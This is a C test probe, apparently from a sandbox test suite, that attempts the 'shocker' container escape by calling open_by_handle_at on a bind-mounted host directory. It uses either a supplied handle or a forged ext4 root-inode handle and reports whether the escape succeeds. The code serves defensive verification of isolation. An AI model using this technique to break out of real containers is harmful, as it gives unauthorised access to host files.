// SPDX-License-Identifier: BSD-3-Clause
// handle_probe: the "shocker" escape: open_by_handle_at(2) of a filesystem's root directory through a
// bind-mounted host directory (MOUNT_DIR, /usr) as the mount fd. The root is outside the bind, so
// only the escape opens it. usage: handle_probe [MOUNT_DIR [HANDLE_TYPE HANDLE_HEX]]
// The test passes the real handle of the root of the filesystem holding MOUNT_DIR, taken on the host
// with name_to_handle_at(2), so the probe works on any filesystem that exports handles; without one
// it forges shocker's ext4 handle (FILEID_INO32_GEN, root inode 2), which only fits ext2/3/4.
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <unistd.h>

#include "probe.h"

enum { kMaxHandle = 128 };  // MAX_HANDLE_SZ

static int parse_hex(const char* hex, unsigned char* out, size_t cap, size_t* len) {
  size_t n = strlen(hex);
  if (n == 0 || n % 2 != 0 || n / 2 > cap) return -1;
  for (size_t i = 0; i < n / 2; ++i) {
    unsigned v = 0;
    if (sscanf(hex + 2 * i, "%2x", &v) != 1) return -1;
    out[i] = (unsigned char)v;
  }
  *len = n / 2;
  return 0;
}

int main(int argc, char** argv) {
  if (argc != 1 && argc != 2 && argc != 4) probe_usage("handle_probe [MOUNT_DIR [HANDLE_TYPE HANDLE_HEX]]");
  const char* mount_dir = argc > 1 ? argv[1] : "/usr";
  int mfd = open(mount_dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mfd < 0) {
    fprintf(stderr, "open %s: %s\n", mount_dir, strerror(errno));
    return PROBE_ERROR;
  }
  struct {
    struct file_handle fh;
    unsigned char bytes[kMaxHandle];
  } h;
  const char* what = "open_by_handle_at(forged ext4 root inode)";
  if (argc == 4) {
    size_t len = 0;
    if (parse_hex(argv[3], h.bytes, sizeof h.bytes, &len) != 0) probe_usage("HANDLE_HEX: hex digits, at most 128 bytes");
    h.fh.handle_type = atoi(argv[2]);
    h.fh.handle_bytes = (unsigned)len;
    what = "open_by_handle_at(the filesystem's root, from a real handle)";
  } else {
    const uint32_t ino_gen[2] = {2, 0};  // ext4 root inode, generation 0
    memcpy(h.bytes, ino_gen, sizeof ino_gen);
    h.fh.handle_type = 1;  // FILEID_INO32_GEN
    h.fh.handle_bytes = sizeof ino_gen;
  }
  int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  probe_attempt(what, fd);
  if (fd >= 0) close(fd);
  close(mfd);
  return probe_verdict();
}
